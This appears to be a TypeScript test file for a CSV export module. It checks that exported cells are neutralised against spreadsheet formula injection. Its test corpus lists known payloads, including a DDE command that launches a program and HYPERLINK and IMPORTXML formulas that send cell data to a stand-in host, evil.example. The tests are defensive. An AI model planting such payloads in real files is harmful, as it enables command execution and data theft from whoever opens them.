import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvCell, csvLine, entryCsvHead, entryCsvLine } from "./csv";
import type { EntryRow } from "./schema";

/** Cells of a CSV text, read by RFC 4180. */
function read(text: string): string[][] {
  const lines: string[][] = [];
  let cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let at = 0; at < text.length; at++) {
    const character = text[at];
    if (quoted) {
      if (character !== '"') cell += character;
      else if (text[at + 1] === '"') cell += text[++at];
      else quoted = false;
    } else if (character === '"') quoted = true;
    else if (character === ",") {
      cells.push(cell);
      cell = "";
    } else if (character === "\r" && text[at + 1] === "\n") {
      lines.push([...cells, cell]);
      cells = [];
      cell = "";
      at++;
    } else cell += character;
  }
  return lines;
}

const unprefixed = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);

// Formulas that spreadsheets have been made to run, from public collections of such payloads.
const corpus = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\0=1+1",
  "＝1+1",
  "－2+3",
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "'=1+1",
  '"=1+1',
];

describe("T43 a cell never begins like a formula", () => {
  test.each(corpus)("%j", (payload) => {
    const [line] = read(csvLine([payload, "next"]));
    expect(line?.[0]).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/u);
    expect(unprefixed(line?.[0] ?? "")).toBe(payload);
    expect(line?.[1]).toBe("next");
  });

  test("whatever the text is", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "binary" }), { minLength: 1, maxLength: 5 }), (cells) => {
        const [line] = read(csvLine(cells));
        expect(line?.map(unprefixed)).toEqual(cells);
        for (const cell of line ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/u);
      }),
      { numRuns: 500 },
    );
  });
});

test("plain text stays plain", () => {
  expect(csvCell("payments.transfer")).toBe("payments.transfer");
  expect(csvCell("a, b")).toBe('"a, b"');
  expect(csvCell('say "yes"')).toBe('"say ""yes"""');
});

test("an entry is one line with a cell for each column, hostile names included", () => {
  const row: EntryRow = {
    id: "dec_000000000000000000",
    kind: "decision",
    at: "2026-01-01T00:00:00.000Z",
    agent: { id: "agt_1", name: '=HYPERLINK("x")\r\nsecond' },
    actor: null,
    outcome: "allow",
    codes: ["tier.allowed", "mandate.tool_allowed"],
    tool: "mail.send",
    effect: "external",
    approvalId: null,
    ref: null,
    policyHash: null,
    sample: true,
  };
  const [head, line] = read(entryCsvHead() + entryCsvLine(row));
  expect(line).toHaveLength(head?.length ?? 0);
  expect(unprefixed(line?.[3] ?? "")).toBe(row.agent?.name);
});
